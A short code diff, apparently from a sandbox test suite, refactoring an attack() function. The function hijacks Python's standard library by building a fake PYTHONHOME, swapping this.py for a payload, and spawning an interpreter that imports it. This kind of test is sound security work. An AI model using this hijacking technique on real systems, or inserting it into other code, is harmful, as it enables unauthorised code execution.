@@ -6,7 +6,6 @@ GRANT = {"run": True}
 
 import os
 import subprocess
-import sys
 
 from . import payload
 
@@ -15,13 +14,12 @@ def attack():
     import encodings
     root = payload.ROOT + "/tmp/home"
     there = os.path.dirname(os.path.dirname(encodings.__file__))
-    name = "python%d.%d" % sys.version_info[:2]
     os.makedirs(root + "/lib")
-    os.mkdir(f"{root}/lib/{name}")
+    os.mkdir(f"{root}/lib/{payload.LIBRARY}")
     for file in os.listdir(there):
-        os.symlink(f"{there}/{file}", f"{root}/lib/{name}/{file}")
-    os.remove(f"{root}/lib/{name}/this.py")
-    with open(f"{root}/lib/{name}/this.py", "w") as file:
+        os.symlink(f"{there}/{file}", f"{root}/lib/{payload.LIBRARY}/{file}")
+    os.remove(f"{root}/lib/{payload.LIBRARY}/this.py")
+    with open(f"{root}/lib/{payload.LIBRARY}/this.py", "w") as file:
         file.write(payload.SOURCE)
     subprocess.run([payload.PYTHON, "-c", "import this"],
                    env={"PYTHONHOME": root})
